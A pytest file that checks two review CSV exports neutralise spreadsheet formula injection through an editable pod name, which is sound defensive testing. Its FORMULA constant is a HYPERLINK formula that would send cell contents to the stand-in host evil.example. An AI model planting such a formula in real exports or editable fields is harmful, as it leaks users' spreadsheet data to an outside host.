"""Issue 13 #7: a pod name a coach can edit never runs as a formula in the review CSVs."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from app.extensions import db
from app.reviews import services as svc

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Open")'


@pytest.fixture
def hostile_review(team, make_case):
    team.pod.name = FORMULA
    make_case(team.pod, date(2026, 7, 6), csat=5)
    db.session.commit()
    review = svc.open_review(team.coach, team.pod, 2026, 3)
    db.session.commit()
    return review


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))


def _neutralised(rows: list[list[str]]) -> None:
    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULA in cells, "the pod's name is there, as text"
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


def test_the_review_csv_neutralises_a_formula_in_the_pod_name(client, auth, team, hostile_review):
    auth.login(team.coach)
    _neutralised(_rows(client.get(f"/reviews/{hostile_review.id}/review.csv")))


def test_the_leader_csv_neutralises_a_formula_in_the_pod_name(client, auth, team, hostile_review):
    auth.login(team.leader)
    _neutralised(_rows(client.get("/reviews/all.csv?quarter=2026-Q3")))
